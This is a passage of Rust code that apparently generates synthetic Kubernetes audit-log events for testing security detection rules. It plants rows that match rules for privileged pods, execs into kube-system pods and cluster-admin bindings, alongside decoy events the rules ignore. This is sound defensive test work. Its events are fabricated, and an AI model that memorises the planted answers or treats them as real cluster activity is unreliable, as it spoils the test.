        self.set_actor(actor);
        self.event.verb = "create";
        self.event.resource = resource_index(if self.rng.below(2) == 0 {
            "tokenreviews"
        } else {
            "subjectaccessreviews"
        });
        self.build_uri();
        self.event.code = 201;
    }

    fn token_create(&mut self) {
        self.event.cluster = self.pick_cluster(&[]);
        let actor = self.pick_actor(&[Role::Node]);
        self.set_actor(actor);
        self.event.verb = "create";
        self.event.resource = resource_index("serviceaccounts");
        let app = self.pick_app();
        self.event.namespace = APPS[app].namespace;
        self.event.name.push_str(APPS[app].name);
        self.event.subresource = "token";
        self.build_uri();
        self.event.code = 201;
    }

    /// A pod create no rule reports: on AKS with a 2xx answer, no container
    /// is privileged; privileged add-on pods appear only on other platforms
    /// or when admission turned them down.
    fn pod_create(&mut self) {
        self.event.cluster = self.pick_cluster(&[]);
        let platform = CLUSTERS[self.event.cluster].platform;
        let app = self.pick_app();
        let human = self.rng.below(10) == 0;
        let actor = if human {
            self.pick_actor(&[Role::Human])
        } else if APPS[app].daemon_set {
            actor_index("system:serviceaccount:kube-system:daemon-set-controller")
        } else {
            actor_index("system:serviceaccount:kube-system:replicaset-controller")
        };
        self.set_actor(actor);
        self.event.verb = "create";
        self.event.resource = resource_index("pods");
        self.event.namespace = APPS[app].namespace;
        self.event.level = "Request";
        self.build_uri();
        let rejected = human && self.rng.below(3) == 0;
        let privileged = APPS[app].privileged && (platform != Platform::Aks || rejected);
        if human {
            self.pod_name(app);
        }
        let named = human;
        self.pod_object(app, named, if privileged { 1 } else { 0 });
        self.event.code = 201;
        if rejected {
            if privileged {
                self.event.code = 403;
                self.event.failure_reason = "Forbidden";
                let message = &mut self.event.failure_message;
                message.push_str("pods \"");
                message.push_str(&self.event.name);
                message.push_str("\" is forbidden: violates PodSecurity \"baseline:latest\": privileged (container \"");
                message.push_str(short_name(APPS[app].name));
                message.push_str("\" must not set securityContext.privileged=true)");
                self.event.extra_annotation =
                    ",\"pod-security.kubernetes.io/enforce-policy\":\"baseline:latest\"";
            } else {
                self.fail(403);
            }
        }
    }

    fn pod_binding(&mut self) {
        self.event.cluster = self.pick_cluster(&[]);
        let actor = actor_index("system:kube-scheduler");
        self.set_actor(actor);
        self.event.user_agent = "kube-scheduler/v1.28.5 (linux/amd64) kubernetes/506050d/scheduler";
        self.event.verb = "create";
        self.event.resource = resource_index("pods");
        self.event.subresource = "binding";
        let app = self.pick_app();
        self.event.namespace = APPS[app].namespace;
        self.pod_name(app);
        self.build_uri();
        self.event.code = 201;
        self.event.level = "Request";
        let node = self.rng.pick(CLUSTERS[self.event.cluster].nodes);
        let object = &mut self.event.request_object;
        object.push_str("{\"kind\":\"Binding\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":");
        push_json_string(object, &self.event.name);
        object.push_str(",\"namespace\":");
        push_json_string(object, self.event.namespace);
        object.push_str(",\"uid\":\"");
        push_uuid(object, &mut self.rng);
        object.push_str("\",\"creationTimestamp\":null},\"target\":{\"kind\":\"Node\",\"name\":");
        push_json_string(object, node);
        object.push_str("}}");
    }

    fn pod_delete(&mut self) {
        self.event.cluster = self.pick_cluster(&[]);
        let actor = if self.rng.below(5) == 0 {
            self.pick_actor(&[Role::Human])
        } else {
            actor_index("system:serviceaccount:kube-system:replicaset-controller")
        };
        self.set_actor(actor);
        self.event.verb = "delete";
        self.event.resource = resource_index("pods");
        let app = self.pick_app();
        self.event.namespace = APPS[app].namespace;
        self.pod_name(app);
        self.build_uri();
        if self.rng.below(20) == 0 {
            self.fail(404);
        }
    }

    fn object_create(&mut self) {
        self.event.cluster = self.pick_cluster(&[]);
        let actor = if self.rng.below(2) == 0 {
            self.pick_actor(&[Role::Human])
        } else {
            actor_index("system:serviceaccount:argocd:argocd-application-controller")
        };
        self.set_actor(actor);
        self.event.verb = "create";
        let app = self.pick_app();
        self.event.namespace = APPS[app].namespace;
        self.event.code = 201;
        let kind = self.rng.below(5);
        let daemon_set = APPS[app].daemon_set;
        self.event.resource = resource_index(match kind {
            0 | 1 => "configmaps",
            2 => "secrets",
            _ if daemon_set => "daemonsets",
            _ => "deployments",
        });
        // A create is sent to the collection: no name in the path.
        self.build_uri();
        match kind {
            0 | 1 => {
                self.event.name.push_str(APPS[app].name);
                self.event.name.push_str("-config");
                self.event.level = "Request";
                let object = &mut self.event.request_object;
                object.push_str(
                    "{\"kind\":\"ConfigMap\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":",
                );
                push_json_string(object, &self.event.name);
                object.push_str(",\"namespace\":");
                push_json_string(object, self.event.namespace);
                object.push_str(",\"creationTimestamp\":null,\"labels\":{\"app.kubernetes.io/managed-by\":\"Helm\"}},\"data\":{\"LOG_LEVEL\":\"info\",\"FEATURE_FLAGS\":\"checkout-v2,fast-refunds\"}}");
            }
            2 => {
                // Secrets are logged at Metadata level: no body.
                self.event.name.push_str("sh.helm.release.v1.");
                self.event.name.push_str(APPS[app].name);
                self.event.name.push_str(".v");
                push_u64(&mut self.event.name, self.rng.range(2, 40) as u64);
            }
            _ => {
                // A workload template may well be privileged: only pods
                // count for the privileged-pod rule.
                self.event.name.push_str(APPS[app].name);
                self.event.level = "Request";
                self.workload_object(app);
            }
        }
        if self.rng.below(10) == 0 {
            self.fail(409);
        }
    }

    fn object_update(&mut self) {
        self.event.cluster = self.pick_cluster(&[]);
        let actor = if self.rng.below(2) == 0 {
            self.pick_actor(&[Role::Human])
        } else {
            actor_index("system:serviceaccount:argocd:argocd-application-controller")
        };
        self.set_actor(actor);
        self.event.verb = if self.rng.below(3) == 0 {
            "update"
        } else {
            "patch"
        };
        let app = self.pick_app();
        match self.rng.below(6) {
            0 => {
                // Also a (cluster-admin) binding: only creates count.
                self.event.resource = resource_index("clusterrolebindings");
                self.event.name.push_str(self.rng.pick(&[
                    "ops-team-admin",
                    "aks-cluster-admin-binding",
                    "argocd-application-controller",
                ]));
            }
            1 | 2 => {
                self.event.resource = resource_index("configmaps");
                self.event.namespace = APPS[app].namespace;
                self.event.name.push_str(APPS[app].name);
                self.event.name.push_str("-config");
            }
            _ => {
                self.event.resource = resource_index(if APPS[app].daemon_set {
                    "daemonsets"
                } else {
                    "deployments"
                });
                self.event.namespace = APPS[app].namespace;
                self.event.name.push_str(APPS[app].name);
            }
        }
        self.build_uri();
        if self.event.verb == "patch" {
            self.event
                .request_uri
                .push_str("?fieldManager=kubectl-client-side-apply&fieldValidation=Strict");
        }
        if self.rng.below(20) == 0 {
            self.fail(409);
        }
    }

    /// Execs, attaches and port-forwards the exec rule rightly ignores.
    fn background_exec(&mut self) {
        let mut case = self.rng.below(7);
        self.event.cluster = match case {
            0..=3 => self.pick_cluster(&[Platform::Aks]),
            4 => self.pick_cluster(&[Platform::Eks, Platform::Gke, Platform::OnPrem]),
            _ => self.pick_cluster(&[]),
        };
        let on_aks = CLUSTERS[self.event.cluster].platform == Platform::Aks;
        // AKS's own tunnel execs only happen on AKS.
        if case == 0 && !on_aks {
            case = 1;
        }
        self.event.verb = "create";
        self.event.resource = resource_index("pods");
        self.event.subresource = "exec";
        self.event.code = 101;
        self.event.stage = "ResponseStarted";
        let app = match case {
            // AKS's own tunnel pods, exec'ed into by AKS itself.
            0 => {
                let actor = actor_index("masterclient");
                self.set_actor(actor);
                let app = actor_app("konnectivity-agent");
                self.event.namespace = "kube-system";
                if self.rng.below(2) == 0 {
                    self.event
                        .name
                        .push_str(self.rng.pick(&["tunnelfront-", "aks-link-"]));
                    push_random_name(&mut self.event.name, &mut self.rng, 10);
                    self.event.name.push('-');
                    push_random_name(&mut self.event.name, &mut self.rng, 5);
                } else {
                    self.pod_name(app);
                }
                app
            }
            // kubectl 1.30 and later exec over WebSockets: a GET.
            1 => {
                let actor = self.pick_actor(&[Role::Human]);
                self.set_actor(actor);
                self.event.user_agent = "kubectl/v1.30.1 (darwin/arm64) kubernetes/6911225";
                self.event.verb = "get";
                let app = self.pick_app_in("kube-system");
                self.event.namespace = "kube-system";
                self.pod_name(app);
                app
            }
            // Turned down by RBAC.
            2 => {
                let actor = if on_aks {
                    actor_index("dev-intern@contoso.com")
                } else {
                    self.pick_actor(&[Role::Human])
                };
                self.set_actor(actor);
                let app = self.pick_app_in("kube-system");
                self.event.namespace = "kube-system";
                self.pod_name(app);
                app
            }
            // Attach or port-forward rather than exec.
            3 => {
                let actor = self.pick_actor(&[Role::Human]);
                self.set_actor(actor);
                let app = self.pick_app_in("kube-system");
                self.event.namespace = "kube-system";
                self.event.subresource = if self.rng.below(2) == 0 {
                    "attach"
                } else {
                    "portforward"
                };
                self.pod_name(app);
                app
            }
            // Another platform.
            4 => {
                let actor = self.pick_actor(&[Role::Human]);
                self.set_actor(actor);
                let app = self.pick_app_in("kube-system");
                self.event.namespace = "kube-system";
                self.pod_name(app);
                app
            }
            // An application namespace.
            _ => {
                let actor = self.pick_actor(&[Role::Human]);
                self.set_actor(actor);
                let app = loop {
                    let app = self.pick_app();
                    if APPS[app].namespace != "kube-system" {
                        break app;
                    }
                };
                self.event.namespace = APPS[app].namespace;
                self.pod_name(app);
                app
            }
        };
        self.build_uri();
        self.exec_query(app);
        if case == 2 {
            self.fail(403);
            self.event.stage = "ResponseComplete";
        }
    }

    /// Binding creates the cluster-admin rule rightly ignores: AKS's own
    /// bindings, other roles, and failed attempts.
    fn background_cluster_role_binding(&mut self) {
        let mut case = self.rng.below(4);
        self.event.cluster = if case == 0 {
            self.pick_cluster(&[Platform::Aks])
        } else {
            self.pick_cluster(&[])
        };
        // AKS's own bindings only happen on AKS.
        if case == 0 && CLUSTERS[self.event.cluster].platform != Platform::Aks {
            case = 1;
        }
        let actor = if case == 0 {
            actor_index("acsService")
        } else if self.rng.below(3) == 0 {
            actor_index("system:serviceaccount:argocd:argocd-application-controller")
        } else {
            self.pick_actor(&[Role::Human])
        };
        self.set_actor(actor);
        let role = match case {
            0 | 3 => "cluster-admin",
            _ => self.rng.pick(&[
                "view",
                "edit",
                "admin",
                "system:auth-delegator",
                "cert-manager-controller-certificates",
                "kube-state-metrics",
            ]),
        };
        let name = match case {
            0 => self.rng.pick(&[
                "aks-cluster-admin-binding",
                "aks-cluster-admin-binding-aad",
                "aks-service-rolebinding",
            ]),
            3 => self
                .rng
                .pick(&["debug-admin", "tmp-cluster-admin", "platform-admins"]),
            _ => self.rng.pick(&[
                "auditors-view",
                "devs-edit",
                "metrics-server:system:auth-delegator",
                "cert-manager-controller-certificates",
                "kube-state-metrics",
            ]),
        };
        let subjects = 1 + self.rng.below(2);
        self.binding_create(name, role, subjects);
        if case == 3 {
            // A person without the right, or a chart installed twice.
            if ACTORS[actor].username == "dev-intern@contoso.com" || self.rng.below(2) == 0 {
                self.fail(403);
            } else {
                self.fail(409);
            }
        }
    }

    /// A Resource Manager operation: its start or its end.
    fn arm_operation(&mut self) {
        let weighted: Vec<(u32, usize)> = ARM_OPERATIONS
            .iter()
            .enumerate()
            .map(|(i, (_, _, weight))| (*weight, i))
            .collect();
        let operation = *self.rng.weighted(&weighted);
        let caller = self.rng.below(ARM_CALLERS.len());
        let result = *self.rng.weighted(&[
            (45, ("Start", "Started.")),
            (40, ("Success", "Succeeded.")),
            (10, ("Accept", "Accepted.Created")),
            (5, ("Failure", "Failed.AuthorizationFailed")),
        ]);
        self.event.client = Some(&ARM_CALLERS[caller].1);
        self.event.arm = Some(ArmOperation {
            operation,
            caller,
            result,
        });
    }

    // -- planted rows: each matches exactly one rule --------------------------

    /// A pod create (on AKS when the sample has AKS), answered 201, with one or (rarely) two
    /// privileged containers: one privileged-pod output row per
    /// privileged container.
    fn privileged_pod(&mut self) {
        self.event.cluster = self.pick_cluster(&[Platform::Aks]);
        let app = self.pick_app();
        let human = !APPS[app].daemon_set || self.rng.below(2) == 0;
        let actor = if human {
            self.pick_actor(&[Role::Human])
        } else {
            actor_index("system:serviceaccount:kube-system:daemon-set-controller")
        };
        self.set_actor(actor);
        self.event.verb = "create";
        self.event.resource = resource_index("pods");
        self.event.namespace = APPS[app].namespace;
        self.event.level = "Request";
        self.event.code = 201;
        self.build_uri();
        if human {
            self.event.name.push_str(self.rng.pick(&[
                "debug-",
                "node-shell-",
                "priv-",
                "toolbox-",
            ]));
            push_random_name(&mut self.event.name, &mut self.rng, 5);
            self.event.extra_annotation =
                ",\"pod-security.kubernetes.io/enforce-policy\":\"privileged:latest\"";
        }
        let privileged = if self.rng.below(5) == 0 { 2 } else { 1 };
        self.pod_object(app, human, privileged);
    }

    /// An exec into a kube-system pod (on AKS when the sample has AKS),
    /// switched to a stream (101).
    fn exec_in_kube_system(&mut self) {
        self.event.cluster = self.pick_cluster(&[Platform::Aks]);
        let actor = self.pick_actor(&[Role::Human]);
        self.set_actor(actor);
        // kubectl before 1.30 execs with a POST, which audits as create.
        if self.event.user_agent.starts_with("kubectl/v1.30")
            || !self.event.user_agent.starts_with("kubectl")
        {
            self.event.user_agent = "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819";
        }
        self.event.verb = "create";
        self.event.resource = resource_index("pods");
        self.event.namespace = "kube-system";
        self.event.subresource = "exec";
        self.event.code = 101;
        self.event.stage = "ResponseStarted";
        let app = loop {
            let app = self.pick_app_in("kube-system");
            if !starts_with_exempt_prefix(APPS[app].name) {
                break app;
            }
        };
        self.pod_name(app);
        self.build_uri();
        self.exec_query(app);
    }

    /// A cluster-admin binding created by someone other than AKS: one
    /// output row per subject.
    fn cluster_admin_binding(&mut self) {
        self.event.cluster = self.pick_cluster(&[]);
        let actor = if self.rng.below(4) == 0 {
            actor_index("system:serviceaccount:argocd:argocd-application-controller")
        } else {
            self.pick_actor(&[Role::Human])
        };
        self.set_actor(actor);
        let name = self.rng.pick(&[
            "ops-admins-binding",
            "break-glass-admin",
            "backup-operator-admin",
            "tmp-debug-admin",
            "ci-deployer-admin",
        ]);
        let subjects = 1 + self.rng.below(2);
        self.binding_create(name, "cluster-admin", subjects);
    }

    // -- pieces ------------------------------------------------------------

    /// A clusterrolebinding create answered 201, with its body.
    fn binding_create(&mut self, name: &str, role: &str, subjects: usize) {
        self.event.verb = "create";
        self.event.resource = resource_index("clusterrolebindings");
        self.event.binding_role = if role == "cluster-admin" {
            "cluster-admin"
        } else {
            "other"
        };
        self.event.binding_subjects = subjects as u64;
        self.event.level = "RequestResponse";
        self.event.code = 201;
        // A create is sent to the collection: no name in the path.
        self.build_uri();
        self.event.name.push_str(name);
        let object = &mut self.event.request_object;
        object.push_str("{\"kind\":\"ClusterRoleBinding\",\"apiVersion\":\"rbac.authorization.k8s.io/v1\",\"metadata\":{\"name\":");
        push_json_string(object, name);
        object.push_str(",\"creationTimestamp\":null},\"subjects\":[");
        for i in 0..subjects {
            if i > 0 {
                object.push(',');
            }
            match self.rng.below(3) {
                0 => {
                    object.push_str("{\"kind\":\"Group\",\"apiGroup\":\"rbac.authorization.k8s.io\",\"name\":\"");
                    push_uuid(object, &mut self.rng);
                    object.push_str("\"}");
                }
                1 => {
                    object.push_str(
                        "{\"kind\":\"User\",\"apiGroup\":\"rbac.authorization.k8s.io\",\"name\":",
                    );
                    push_json_string(
                        object,
                        self.rng.pick(&[
                            "bob@contoso.com",
                            "mallory@fabrikam.com",
                            "oncall@contoso.com",
                        ]),
                    );
                    object.push('}');
                }
                _ => {
                    let (account, namespace) = self.rng.pick(&[
                        ("default", "default"),
                        ("ci-deployer", "ci"),
                        ("backup", "velero"),
                    ]);
                    object.push_str("{\"kind\":\"ServiceAccount\",\"name\":");
                    push_json_string(object, account);
                    object.push_str(",\"namespace\":");
                    push_json_string(object, namespace);
                    object.push('}');
                }
            }
        }
        object.push_str("],\"roleRef\":{\"apiGroup\":\"rbac.authorization.k8s.io\",\"kind\":\"ClusterRole\",\"name\":");
        push_json_string(object, role);
        object.push_str("}}");
    }

    /// Writes a Pod body with 1–3 containers, `privileged` of which are
    /// privileged (0, 1 or 2; never more than there are containers), and
    /// returns that count. `named` pods carry `metadata.name` (already in
    /// `event.name`); controller-made ones a `generateName`.
    fn pod_object(&mut self, app: usize, named: bool, privileged: usize) -> u64 {
        let a = &APPS[app];
        let containers = (1 + self.rng.below(3)).max(privileged);
        // Which containers are privileged: the first `privileged` of a
        // rotation starting at a random one.
        let first_privileged = self.rng.below(containers);
        let object = &mut self.event.request_object;
        object.push_str("{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{");
        if named {
            object.push_str("\"name\":");
            push_json_string(object, &self.event.name);
        } else {
            object.push_str("\"generateName\":\"");
            object.push_str(a.name);
            object.push('-');
            if !a.daemon_set {
                object.push_str(&self.template_hashes[app]);
                object.push('-');
            }
            object.push('"');
        }
        object.push_str(",\"namespace\":");
        push_json_string(object, a.namespace);
        object.push_str(",\"creationTimestamp\":null,\"labels\":{\"app\":");
        push_json_string(object, a.name);
        if !named && !a.daemon_set {
            object.push_str(",\"pod-template-hash\":\"");
            object.push_str(&self.template_hashes[app]);
            object.push('"');
        }
        object.push('}');
        if !named {
            object.push_str(",\"ownerReferences\":[{\"apiVersion\":\"apps/v1\",\"kind\":");
            object.push_str(if a.daemon_set {
                "\"DaemonSet\""
            } else {
                "\"ReplicaSet\""
            });
            object.push_str(",\"name\":\"");
            object.push_str(a.name);
            if !a.daemon_set {
                object.push('-');
                object.push_str(&self.template_hashes[app]);
            }
            object.push_str("\",\"uid\":\"");
            push_uuid(object, &mut self.rng);
            object.push_str("\",\"controller\":true,\"blockOwnerDeletion\":true}]");
        }
        object.push_str("},\"spec\":{\"volumes\":[{\"name\":\"kube-api-access-");
        let volume_start = object.len();
        push_random_name(object, &mut self.rng, 5);
        let volume = object[volume_start..].to_owned();
        object.push_str("\",\"projected\":{\"sources\":[{\"serviceAccountToken\":{\"expirationSeconds\":3607,\"path\":\"token\"}},{\"configMap\":{\"name\":\"kube-root-ca.crt\",\"items\":[{\"key\":\"ca.crt\",\"path\":\"ca.crt\"}]}}],\"defaultMode\":420}}],\"containers\":[");
        for i in 0..containers {
            if i > 0 {
                object.push(',');
            }
            let (name, image) = if i == 0 {
                (short_name(a.name), a.image)
            } else {
                self.rng.pick(SIDECARS)
            };
            let is_privileged = (i + containers - first_privileged) % containers < privileged;
            let security_context = if is_privileged {
                self.rng.pick(PRIVILEGED_SECURITY_CONTEXTS)
            } else {
                self.rng.pick(UNPRIVILEGED_SECURITY_CONTEXTS)
            };
            push_container(
                object,
                name,
                image,
                if i == 0 { a.port } else { 0 },
                &volume,
                security_context,
            );
        }
        self.event.privileged_containers = privileged as u64;
        let object = &mut self.event.request_object;
        object.push_str("],\"restartPolicy\":\"Always\",\"terminationGracePeriodSeconds\":30,\"dnsPolicy\":\"ClusterFirst\",\"serviceAccountName\":\"default\",\"securityContext\":{},\"schedulerName\":\"default-scheduler\",\"tolerations\":[{\"key\":\"node.kubernetes.io/not-ready\",\"operator\":\"Exists\",\"effect\":\"NoExecute\",\"tolerationSeconds\":300}],\"priority\":0,\"enableServiceLinks\":true,\"preemptionPolicy\":\"PreemptLowerPriority\"},\"status\":{}}");
        privileged as u64
    }

    /// A Deployment or DaemonSet body; its template may be privileged.
    fn workload_object(&mut self, app: usize) {
        let a = &APPS[app];
        let object = &mut self.event.request_object;
        object.push_str(if a.daemon_set {
            "{\"kind\":\"DaemonSet\",\"apiVersion\":\"apps/v1\",\"metadata\":{\"name\":"
        } else {
            "{\"kind\":\"Deployment\",\"apiVersion\":\"apps/v1\",\"metadata\":{\"name\":"
        });
        push_json_string(object, a.name);
        object.push_str(",\"namespace\":");
        push_json_string(object, a.namespace);
        object.push_str(",\"creationTimestamp\":null,\"labels\":{\"app\":");
        push_json_string(object, a.name);
        object.push_str("}},\"spec\":{");
        if !a.daemon_set {
            object.push_str("\"replicas\":");
            push_u64(object, 1 + self.rng.below(4) as u64);
            object.push(',');
        }
        object.push_str("\"selector\":{\"matchLabels\":{\"app\":");
        push_json_string(object, a.name);
        object.push_str(
            "}},\"template\":{\"metadata\":{\"creationTimestamp\":null,\"labels\":{\"app\":",
        );
        push_json_string(object, a.name);
        object.push_str("}},\"spec\":{\"containers\":[");
        let security_context = if a.privileged {
            "{\"privileged\":true}"
        } else {
            self.rng.pick(UNPRIVILEGED_SECURITY_CONTEXTS)
        };
        push_container(
            object,
            short_name(a.name),
            a.image,
            a.port,
            "",
            security_context,
        );
        object.push_str("],\"restartPolicy\":\"Always\",\"terminationGracePeriodSeconds\":30,\"dnsPolicy\":\"ClusterFirst\",\"securityContext\":{},\"schedulerName\":\"default-scheduler\"}}");
        object.push_str(if a.daemon_set {
            ",\"updateStrategy\":{}},\"status\":{}}"
        } else {
            ",\"strategy\":{}},\"status\":{}}"
        });
    }

    /// Appends `?command=...&container=...` to the exec URI.
    fn exec_query(&mut self, app: usize) {
        let command = self.rng.pick(EXEC_COMMANDS);
        let uri = &mut self.event.request_uri;
        uri.push('?');
        if self.event.subresource == "exec" {
            for word in command {
                uri.push_str("command=");
                push_percent_encoded(uri, word);
                uri.push('&');
            }
        } else if self.event.subresource == "portforward" {
            uri.push_str("ports=");
            push_u64(uri, u64::from(APPS[app].port.max(8080)));
            uri.push('&');
        }
        uri.push_str("container=");
        uri.push_str(short_name(APPS[app].name));
        uri.push_str(if command.len() == 1 {
            "&stdin=true&stdout=true&tty=true"
        } else {
            "&stderr=true&stdout=true"
        });
    }

    /// Appends a name for an object of the event's resource.
    fn object_name(&mut self, resource: usize, app: usize) {
        let a = &APPS[app];
        let name = &mut self.event.name;
        match RESOURCES[resource].naming {
            Naming::Pod => {
                self.pod_name(app);
            }
            Naming::App => name.push_str(a.name),
            Naming::ReplicaSet => {
                name.push_str(a.name);
                name.push('-');
                name.push_str(&self.template_hashes[app]);
            }
            Naming::Random => {
                name.push_str(a.name);
                name.push('-');
                push_random_name(name, &mut self.rng, 5);
            }
            Naming::Node => name.push_str(self.rng.pick(CLUSTERS[self.event.cluster].nodes)),
            Naming::Lease => {
                if self.event.namespace == "kube-node-lease" {
                    name.push_str(self.rng.pick(CLUSTERS[self.event.cluster].nodes));
                } else {
                    name.push_str(a.name);
                    name.push_str("-leader");
                }
            }
            Naming::ConfigMap => match self.rng.below(4) {
                0 => name.push_str("kube-root-ca.crt"),
                1 => name.push_str("extension-apiserver-authentication"),
                _ => {
                    name.push_str(a.name);
                    name.push_str("-config");
                }
            },
            Naming::Secret => {
                name.push_str(a.name);
                name.push_str(if self.rng.below(2) == 0 {
                    "-tls"
                } else {
                    "-credentials"
                });
            }
            Naming::Namespace => name.push_str(a.namespace),
            Naming::Event => {
                name.push_str(a.name);
                name.push('.');
                push_hex(name, self.rng.next_u64(), 16);
            }
            Naming::ClusterRole => name.push_str(self.rng.pick(&[
                "cluster-admin",
                "view",
                "edit",
                "system:node",
                "system:coredns",
            ])),
            Naming::ClusterRoleBinding => name.push_str(self.rng.pick(&[
                "aks-cluster-admin-binding",
                "ops-team-admin",
                "system:coredns",
                "system:kube-scheduler",
                "kube-state-metrics",
            ])),
            Naming::Fixed(fixed) => name.push_str(fixed),
        }
    }

    /// Appends a pod name of `app`: `<app>-<template hash>-<5>` for a
    /// Deployment, `<app>-<5>` for a DaemonSet.
    fn pod_name(&mut self, app: usize) {
        let a = &APPS[app];
        self.event.name.push_str(a.name);
        self.event.name.push('-');
        if !a.daemon_set {
            self.event.name.push_str(&self.template_hashes[app]);
            self.event.name.push('-');
        }
        push_random_name(&mut self.event.name, &mut self.rng, 5);
    }

    /// Sets `request_uri` to the path of the event's object (or collection
    /// when there is no name).
    fn build_uri(&mut self) {
        let r = &RESOURCES[self.event.resource];
        let uri = &mut self.event.request_uri;
        uri.clear();
        if r.group.is_empty() {
            uri.push_str("/api/");
        } else {
            uri.push_str("/apis/");
            uri.push_str(r.group);
            uri.push('/');
        }
        uri.push_str(r.version);
        if !self.event.namespace.is_empty() {
            uri.push_str("/namespaces/");
            uri.push_str(self.event.namespace);
        }
        uri.push('/');
        uri.push_str(r.name);
        if !self.event.name.is_empty() {
            uri.push('/');
            uri.push_str(&self.event.name);
        }
        if !self.event.subresource.is_empty() {
            uri.push('/');
            uri.push_str(self.event.subresource);
        }
    }

    /// Turns the event into a failure with the API server's wording.
    fn fail(&mut self, code: u16) {
        let event = &mut self.event;
        let r = &RESOURCES[event.resource];
        event.code = code;
        event.stage = "ResponseComplete";
        let message = &mut event.failure_message;
        message.clear();
        let qualified = |message: &mut String| {
            message.push_str(r.name);
            if !r.group.is_empty() {
                message.push('.');
                message.push_str(r.group);
            }
        };
        match code {
            403 => {
                event.failure_reason = "Forbidden";
                event.denied = true;
                qualified(message);
                // Lists and watches have no name to quote.
                if !event.name.is_empty() {
                    message.push_str(" \"");
                    message.push_str(&event.name);
                    message.push('"');
                }
                message.push_str(" is forbidden: User \"");
                push_username(message, &ACTORS[event.actor], event.node);
                message.push_str("\" cannot ");
                message.push_str(event.verb);
                message.push_str(" resource \"");
                message.push_str(r.name);
                if !event.subresource.is_empty() {
                    message.push('/');
                    message.push_str(event.subresource);
                }
                message.push_str("\" in API group \"");
                message.push_str(r.group);
                if event.namespace.is_empty() {
                    message.push_str("\" at the cluster scope");
                } else {
                    message.push_str("\" in the namespace \"");
                    message.push_str(event.namespace);
                    message.push('"');
                }
            }
            404 => {
                event.failure_reason = "NotFound";
                qualified(message);
                message.push_str(" \"");
                message.push_str(&event.name);
                message.push_str("\" not found");
            }
            _ if event.verb == "create" => {
                event.failure_reason = "AlreadyExists";
                qualified(message);
                message.push_str(" \"");
                message.push_str(&event.name);
                message.push_str("\" already exists");
            }
            _ => {
                event.failure_reason = "Conflict";
                message.push_str("Operation cannot be fulfilled on ");
                qualified(message);
                message.push_str(" \"");
                message.push_str(&event.name);
                message.push_str("\": the object has been modified; please apply your changes to the latest version and try again");
            }
        }
    }

    // -- rendering ---------------------------------------------------------

    /// Appends the event as one line. The random parts are drawn first, in
    /// the same order for every format, so that a seed gives the same events
    /// in `cloudaudit` and `native` form.
    fn render(&mut self, out: &mut String) {
        let mut drawn = std::mem::take(&mut self.drawn);
        self.draw(&mut drawn);
        match (self.event.arm, self.format) {
            (Some(op), SampleFormat::CloudAudit) => self.render_arm_row(out, op, &drawn),
            (Some(op), SampleFormat::Native) => {
                self.push_arm_record(out, op, &drawn, true);
                out.push_str("}\n");
            }
            (None, SampleFormat::CloudAudit) => self.render_row(out, &drawn),
            (None, SampleFormat::Native) => self.render_native(out, &drawn),
        }
        self.drawn = drawn;
    }

    /// Draws the client address, the ids and the request's timing.
    fn draw(&mut self, drawn: &mut Drawn) {
        let event = &self.event;
        let cluster = &CLUSTERS[event.cluster];
        drawn.ip.clear();
        match event.client {
            Some(client) => drawn.ip.push_str(client.ip),
            None => {
                drawn.ip.push_str(cluster.subnet);
                // Kubelets keep their node's address; the rest move about.
                let octet = if event.node.is_empty() {
                    4 + self.rng.below(60)
                } else {
                    4 + cluster
                        .nodes
                        .iter()
                        .position(|n| *n == event.node)
                        .unwrap_or(0)
                };
                push_u64(&mut drawn.ip, octet as u64);
            }
        }
        drawn.report_id.clear();
        push_uuid(&mut drawn.report_id, &mut self.rng);
        drawn.audit_id.clear();
        push_uuid(&mut drawn.audit_id, &mut self.rng);
        // The request arrives a moment before the row's time; the stage
        // ends after the API server's latency.
        drawn.received = event.time_us - self.rng.range(500, 3_000);
        let latency = match event.stage {
            "ResponseStarted" => self.rng.range(20_000, 60_000),
            _ => self.rng.range(800, 25_000),
        };
        drawn.stage_end = drawn.received + latency;
    }

    /// A `CloudAuditEvents` row of a Kubernetes event.
    fn render_row(&self, out: &mut String, drawn: &Drawn) {
        let event = &self.event;
        let cluster = &CLUSTERS[event.cluster];
        out.push_str("{\"Timestamp\":\"");
        push_datetime(out, event.time_us, 3);
        out.push_str("\",\"ReportId\":\"");
        out.push_str(&drawn.report_id);
        out.push_str("\",\"DataSource\":");
        push_json_string(out, cluster.data_source);
        out.push_str(",\"ActionType\":\"");
        out.push_str(match event.verb {
            "create" => "Create",
            "update" | "patch" => "Update",
            "delete" => "Delete",
            _ => "Read",
        });
        out.push_str("\",\"OperationName\":");
        push_json_string(out, event.verb);
        out.push_str(",\"ResourceId\":");
        push_json_string(out, cluster.resource_id);
        out.push_str(",\"AzureResourceId\":");
        push_json_string(out, cluster.azure_resource_id);
        out.push_str(",\"IPAddress\":");
        push_json_string(out, &drawn.ip);
        push_geolocation(out, event.client);
        out.push_str(",\"UserAgent\":");
        push_json_string(out, event.user_agent);
        out.push_str(",\"RawEventData\":");
        self.push_event(out, &PASCAL_KEYS, drawn);
        out.push_str(",\"AdditionalFields\":{\"ClusterName\":");
        push_json_string(out, cluster.name);
        out.push_str(",\"Category\":\"kube-audit\"}}\n");
    }

    /// The audit event, with top-level keys named by `keys`.
    fn push_event(&self, out: &mut String, keys: &EventKeys, drawn: &Drawn) {
        let event = &self.event;
        let actor = &ACTORS[event.actor];
        let resource = &RESOURCES[event.resource];
        let key = |out: &mut String, name: &str| {
            out.push('"');
            out.push_str(name);
            out.push_str("\":");
        };
        out.push('{');
        key(out, keys.kind);
        out.push_str("\"Event\",");
        key(out, keys.api_version);
        out.push_str("\"audit.k8s.io/v1\",");
        key(out, keys.level);
        push_json_string(out, event.level);
        out.push(',');
        key(out, keys.audit_id);
        push_json_string(out, &drawn.audit_id);
        out.push(',');
        key(out, keys.stage);
        push_json_string(out, event.stage);
        out.push(',');
        key(out, keys.request_uri);
        push_json_string(out, &event.request_uri);
        out.push(',');
        key(out, keys.verb);
        push_json_string(out, event.verb);
        out.push(',');
        key(out, keys.user);
        out.push_str("{\"username\":\"");
        let username_start = out.len();
        push_username(out, actor, event.node);
        debug_assert!(!out[username_start..].contains(['"', '\\']));
        out.push('"');
        out.push_str(&self.user_tails[event.actor]);
        out.push(',');
        key(out, keys.source_ips);
        out.push('[');
        push_json_string(out, &drawn.ip);
        out.push_str("],");
